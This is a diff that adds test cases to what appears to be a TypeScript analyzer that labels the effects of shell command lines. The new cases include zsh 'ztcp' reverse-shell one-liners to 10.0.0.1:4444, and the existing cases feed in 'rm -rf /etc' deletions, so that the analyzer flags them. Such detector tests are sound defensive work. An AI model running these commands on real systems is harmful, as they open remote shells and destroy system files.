@@ -145,6 +145,17 @@ describe('declarations', () => {
   })
 })
 
+test('`ztcp` of zsh opens a connection', () => {
+  const joined = [
+    'connect:tunnel 10.0.0.1:4444',
+    'execute:download standard input as shell',
+    'execute:remote-shell a shell joined to the network',
+  ]
+  expect(effectLines('ztcp 10.0.0.1 4444; zsh <&$REPLY >&$REPLY')).toEqual(expect.arrayContaining(joined))
+  expect(effectLines('ztcp -d 3 10.0.0.1 4444; zsh <&3 >&3')).toEqual(expect.arrayContaining(joined))
+  expect(effectLines('ztcp -l 4444')).toEqual(['unknown: a connection of which only running shows where it leads'])
+})
+
 describe('unset', () => {
   test.each<Row>([
     ['a function', 'rm() { :; }; unset -f rm; rm -rf /etc', ['delete /etc']],
@@ -156,6 +167,17 @@ describe('unset', () => {
     ['not the variable', 'X=/etc; unset -f X; rm -rf $X', ['delete /etc']],
     ['another variable', 'X=/etc; unset Y; rm -rf $X', ['delete /etc']],
     ['a readonly variable stays', 'readonly X=/etc; unset X; rm -rf $X', ['delete /etc']],
+    [
+      'of the function that calls: the one outside of it comes back',
+      'X=a; h() { unset X; }; g() { local X=b; h; rm "$X"; }; g',
+      ['unknown: `X` has another value outside of a function'],
+    ],
+    ['its own', 'X=/etc; g() { local X=b; unset X; rm b$X; }; g; rm -rf $X', ['delete b', 'delete /etc']],
+    [
+      'the global one beside one of a function',
+      'X=/etc; h() { declare -g X=a; }; g() { local X=/etc; h; rm $X; }; g',
+      ['unknown: `X` has another value outside of a function', 'delete a'],
+    ],
     ['a name only known at run time', 'unset "$N"; rm a', ['unknown: unsets a variable whose name is only known at run time', 'delete a']],
   ])('%s', (_name, commandLine, expected) => {
     expect(effectLines(commandLine, machine)).toEqual(expected)
